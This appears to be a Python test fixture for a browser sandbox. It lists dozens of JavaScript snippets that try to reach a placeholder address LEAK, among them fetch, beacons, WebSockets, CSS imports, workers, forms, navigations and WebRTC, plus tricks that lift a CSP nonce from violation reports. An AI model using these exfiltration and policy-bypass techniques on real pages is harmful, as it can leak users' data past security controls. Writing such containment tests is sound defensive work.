"""Code that tries to get out of the frame. `LEAK` is the address that nothing may reach."""

# Each is a way to make a request, or to take the frame somewhere else with data in the address.
WAYS_OUT: dict[str, str] = {
    "fetch": "fetch(LEAK).catch(() => 0)",
    "fetch no-cors": "fetch(LEAK, { mode: 'no-cors', keepalive: true }).catch(() => 0)",
    "fetchLater": "globalThis.fetchLater?.(LEAK, { activateAfter: 0 })",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', LEAK); x.send()",
    "websocket": "new WebSocket(LEAK.replace('http', 'ws'))",
    "eventsource": "new EventSource(LEAK)",
    "beacon": "navigator.sendBeacon(LEAK, 'x')",
    "image": "new Image().src = LEAK",
    "srcset": "put('img', { srcset: LEAK + ' 1x' })",
    "background": "document.body.style.background = `url(${LEAK})`",
    "css import": "put('style', { textContent: `@import url(${LEAK});` })",
    "font": "put('style', { textContent: `@font-face{font-family:f;src:url(${LEAK})} body{font-family:f}` })",
    "stylesheet": "put('link', { rel: 'stylesheet', href: LEAK })",
    "prefetch": "put('link', { rel: 'prefetch', href: LEAK })",
    "preload": "put('link', { rel: 'preload', as: 'image', href: LEAK })",
    "modulepreload": "put('link', { rel: 'modulepreload', href: LEAK })",
    "preconnect": "put('link', { rel: 'preconnect', href: LEAK })",
    "dns-prefetch": "put('link', { rel: 'dns-prefetch', href: LEAK })",
    "icon": "put('link', { rel: 'icon', href: LEAK })",
    "manifest": "put('link', { rel: 'manifest', href: LEAK })",
    "speculation rules": "put('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [LEAK] }] }) })",  # noqa: E501
    "script": "put('script', { src: LEAK })",
    "import": "import(LEAK).catch(() => 0)",
    "import of a blob": "import(URL.createObjectURL(new Blob([`import '${LEAK}'`], { type: 'text/javascript' }))).catch(() => 0)",  # noqa: E501
    "nonce from a report": (
        "addEventListener('securitypolicyviolation', (event) => {"
        " const nonce = /nonce-([^']+)/.exec(event.originalPolicy)?.[1];"
        " if (nonce) put('script', { nonce, src: LEAK }); }); new Image().src = 'http://127.0.0.1:9/'"
    ),
    "nonce from an observer": (
        "new ReportingObserver((reports) => { for (const { body } of reports) {"
        " const nonce = /nonce-([^']+)/.exec(body?.originalPolicy ?? '')?.[1];"
        " if (nonce) put('script', { nonce, type: 'module', textContent: `import '${LEAK}'` }); } },"
        " { buffered: true }).observe()"
    ),
    "integrity": "put('script', { src: LEAK, integrity: 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=' })",
    "javascript address": "put('iframe', { src: `javascript:fetch('${LEAK}')` })",
    "frame": "put('iframe', { src: LEAK })",
    "srcdoc": "put('iframe', { srcdoc: `<img src='${LEAK}'><script>fetch('${LEAK}')</script>` })",
    "blank frame": "put('iframe', {}).contentWindow?.fetch?.(LEAK)",
    "object": "put('object', { data: LEAK })",
    "embed": "put('embed', { src: LEAK })",
    "video": "put('video', { src: LEAK, poster: LEAK })",
    "audio": "put('audio', { src: LEAK })",
    "track": "put('video', {}).append(Object.assign(document.createElement('track'), { src: LEAK, default: true }))",
    "svg image": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${LEAK}'/><use href='${LEAK}#a'/></svg>`)",  # noqa: E501
    "worker": "new Worker(LEAK)",
    "blob worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${LEAK}')`])))",
    "shared worker": "new SharedWorker(LEAK)",
    "service worker": "navigator.serviceWorker.register(LEAK)",
    "worklet": "CSS.paintWorklet?.addModule(LEAK)",
    "form": "put('form', { action: LEAK, method: 'post' }).submit()",
    "ping": "const a = put('a', { href: '#x', ping: LEAK }); a.click()",
    "download": "const a = put('a', { href: LEAK, download: 'x' }); a.click()",
    "popup": "window.open(LEAK)",
    "popup link": "const a = put('a', { href: LEAK, target: '_blank' }); a.click()",
    "top": "top.location = LEAK",
    "parent": "parent.location.href = LEAK",
    "webrtc": "new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(LEAK).host }] })",
    "webrtc of a blank frame": "new (put('iframe', {}).contentWindow.RTCPeerConnection)()",
    "webtransport": "new WebTransport(LEAK.replace('http:', 'https:'))",
    "eval": "eval('fetch(LEAK)')",
    "inline handler": "document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=\"fetch('${LEAK}')\">`)",
    "inline script": "put('script', { textContent: `fetch('${LEAK}')` })",
    "xslt": "document.body.insertAdjacentHTML('beforeend', `<?xml-stylesheet href='${LEAK}'?>`)",
    "base": "put('base', { href: LEAK }); new Image().src = 'relative'",
}

# These end the frame's document where they succeed, so each gets a frame of its own.
NAVIGATIONS: dict[str, str] = {
    "assign": "location = LEAK + '?data'",
    "replace": "location.replace(LEAK)",
    "link": "const a = put('a', { href: LEAK }); a.click()",
    "self link": "const a = put('a', { href: LEAK, target: '_self' }); a.click()",
    "meta refresh": "put('meta', { httpEquiv: 'refresh', content: '0;url=' + LEAK })",
    "document.write": "document.open(); document.write(`<img src='${LEAK}'><meta http-equiv=refresh content='0;url=${LEAK}'>`); document.close()",  # noqa: E501
    "navigation api": "globalThis.navigation?.navigate(LEAK)",
    "form get": "put('form', { action: LEAK, method: 'get' }).requestSubmit()",
}

PUT = """
const put = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
};
document.getElementById('root').textContent = 'hostile';
"""


def trying(ways: dict[str, str], leak: str) -> str:
    """A module that tries all of these, one after the other; what throws is no way out. The address tells which."""
    tries = "\n".join(
        f"try {{ const LEAK = {leak + name.replace(' ', '-')!r}; {way} }} catch {{}}" for name, way in ways.items()
    )
    return f"{PUT}{tries}\n"
